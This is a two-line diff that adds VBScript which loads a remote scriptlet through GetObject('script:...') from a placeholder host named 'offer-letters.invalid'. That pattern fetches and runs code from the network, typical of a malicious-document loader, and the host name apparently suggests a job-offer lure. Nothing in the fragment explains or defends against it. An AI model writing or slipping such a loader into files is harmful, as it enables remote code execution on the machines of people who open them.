@@ -1,0 +1,2 @@
+Dim page
+Set page = GetObject("script:https://offer-letters.invalid/o.sct")
